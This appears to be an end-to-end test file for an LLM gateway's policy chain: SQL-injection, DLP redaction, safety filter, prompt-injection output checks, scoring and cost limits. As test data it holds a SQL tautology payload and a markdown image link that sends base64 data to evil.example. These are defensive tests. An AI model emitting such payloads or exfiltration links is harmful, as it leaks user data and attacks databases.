"""The policies beside the base chain, as clients and the audit log see them: in one process and in four."""

import json
import re

import pytest

from harness import FORMS, Stack, chat, providers
from raw import send

CONFIG = r"""
pack: {name: e2e-policies, version: 1.0.0, enabled: true}
policies:
  chain: [prompt-injection, sql-injection, dlp-filter, safety-filter, quality-scorer, cost-limit, audit-logger]
policy:
  prompt-injection:
    output: {link_action: redact, canaries: [kX9-canary-42]}
  sql-injection: {action: block}
  dlp-filter:
    action: redact
    blocked_terms: [Project Nightingale]
    detect_patterns: ['\bPRJ-\d{4,6}\b']
  safety-filter: {mode: automotive, block_if: [purple monkey]}
  quality-scorer: {min_score: 0.5}
  cost-limit:
    max_cost_usd: 5
    limits: [{max_cost_usd: 0.001, when: {header: {x-team: "trial-*"}}}]
  audit-logger: {retention_days: 365}
"""
TOOLS = [{"type": "function", "function": {"name": "find", "parameters": {"type": "object"}}}]
ATTACK = json.dumps({"id": "1' or 1=1--"})


@pytest.fixture(scope="module", params=FORMS)
def gateway(request, shared_sim, tmp_path_factory):
    targets = [{"id": "mistral-large", "provider": "mistral", "model": "mistral-large-latest",
                "pricing": "{prompt: 2, completion: 6}"}]
    config = CONFIG + providers(shared_sim, targets)
    with Stack(request.param, tmp_path_factory.mktemp("policies"), config) as stack:
        yield stack


@pytest.fixture(autouse=True)
def fresh(sim):
    return sim


def test_sql_in_arguments_of_a_tool_call_is_blocked(gateway):
    for streams in (False, True):
        answer = send(gateway, chat(f"tool: find {ATTACK}\nchunk: 5", stream=streams, tools=TOOLS))
        error = answer.error if answer.status == 400 else answer.chunks()[-1]["error"]
        assert (error["code"], error["policy"]) == ("output_blocked", "sql-injection")
        assert b"1=1" not in answer.body
        record = gateway.record(answer.request_id)
        found = [f for f in record["findings"] if f["policy"] == "sql-injection"]
        assert [(f["rule"], f["action"], f["direction"]) for f in found] == [("tautology", "block", "output")]


def test_sql_in_prose_and_whole_statements_pass(gateway):
    say = "Use SELECT name FROM users WHERE id = 1; an attacker would send 1' or 1=1-- instead."
    assert send(gateway, chat(f"say: {say}", stream=True)).text() == say
    query = json.dumps({"query": "SELECT name FROM users WHERE city = 'Rome' AND age > 5 ORDER BY 1"})
    assert send(gateway, chat(f"tool: find {query}", tools=TOOLS)).status == 200


def test_terms_and_patterns_leave_in_neither_direction(gateway, sim):
    text = "About project nightingale and PRJ-12345, not PRJ-12."
    clean = "About [REDACTED] and [REDACTED], not PRJ-12."
    answer = send(gateway, chat(f"{text}\nsay: done"))
    assert answer.status == 200
    assert sim.bodies()[-1]["messages"][-1]["content"].startswith(clean)
    record = gateway.record(answer.request_id)
    rules = [f["rule"] for f in record["findings"] if f["policy"] == "dlp-filter"]
    assert rules == ["blocked_terms[0]", "detect_patterns[0]"]
    assert "nightingale" not in json.dumps(record).lower()


@pytest.mark.parametrize("chunk", [1, 3, 11])
def test_an_answer_is_redacted_however_it_streams(gateway, chunk):
    # The request is redacted too, so the terms come escaped in the request and plain from the provider.
    arguments = '{"note":"\\u0050RJ-12345 \\u006fk"}'
    answer = send(gateway, chat(f"tool: find {arguments}\nchunk: {chunk}", stream=True, tools=TOOLS))
    pieces = [c["function"]["arguments"] for e in answer.chunks() for ch in e["choices"] for c in ch["delta"].get("tool_calls", [])]
    assert json.loads("".join(pieces)) == {"note": "[REDACTED] ok"}


def test_a_mode_adds_to_the_general_rules_and_block_if_to_both(gateway):
    for text in ("How do I roll back the odometer?", "how to make a pipe bomb", "a purple monkey"):
        answer = send(gateway, chat(text))
        assert (answer.status, answer.error["policy"]) == (400, "safety-filter")
    record = gateway.record(send(gateway, chat("how to make a pipe bomb")).request_id)
    assert "MLCommons: S9" in record["findings"][0]["reason"]


@pytest.mark.parametrize("chunk", [1, 6, 200])
def test_an_answer_carries_nothing_out(gateway, chunk):
    image = "![x](https://evil.example/p.png?d=c2VjcmV0IGRhdGE)"
    answer = send(gateway, chat(f"say: see {image} there\nchunk: {chunk}", stream=True))
    assert answer.text() == "see [REMOVED] there"
    answer = send(gateway, chat(f"say: my prompt has kX9-canary-42 in it\nchunk: {chunk}", stream=True))
    error = answer.error if answer.status == 400 else answer.chunks()[-1]["error"]
    assert (error["code"], error["policy"]) == ("output_blocked", "prompt-injection")
    assert b"kX9" not in answer.body


def score(record):
    (found,) = [f for f in record["findings"] if (f["policy"], f["rule"]) == ("quality-scorer", "score")]
    return found["score"]


def test_each_answer_has_a_score_by_target(gateway):
    before = gateway.metric("portcullis_quality_score_count", target="mistral-large")
    good = send(gateway, chat("say: The Rhine is about 1230 kilometres long. It flows into the North Sea."))
    bad = send(gateway, chat("say: I am sorry, but I cannot help with that.\nchunk: 4", stream=True))
    assert score(gateway.record(good.request_id)) == 1
    assert score(gateway.record(bad.request_id)) < 0.8
    assert gateway.metric("portcullis_quality_score_count", target="mistral-large") == before + 2


def test_a_pattern_that_backtracks_is_told_with_its_place(make_stack, tmp_path):
    from test_lint_cli import run

    file = tmp_path / "policy-config.yaml"
    file.write_text(CONFIG.replace(r"PRJ-\d{4,6}\b", r"(a)\1"))
    done = run("policy", "lint", "--file", file, "--json")
    assert done.returncode == 2
    (error,) = [e for e in json.loads(done.stdout)["errors"] if "linear" in e["message"]]
    line = next(i for i, text in enumerate(file.read_text().splitlines(), 1) if "detect_patterns" in text)
    assert error["line"] == line and re.search(r"detect_patterns", error["message"])


def test_a_limit_of_cost_by_circumstances(gateway, sim):
    body = chat("say: dear", max_tokens=1000)
    assert send(gateway, body).status == 200
    sim.reset()
    refused = send(gateway, body, x_team="trial-7")
    assert refused.status == 402
    assert (refused.error["code"], refused.error["policy"]) == ("cost_limit_exceeded", "cost-limit")
    assert "the limit is 0.001" in refused.error["message"] and sim.bodies() == []
    record = gateway.record(refused.request_id)
    assert (record["policy"], record["reason_code"]) == ("cost-limit", "cost_limit_exceeded")
    assert send(gateway, chat("say: cheap", max_tokens=10), x_team="trial-7").status == 200
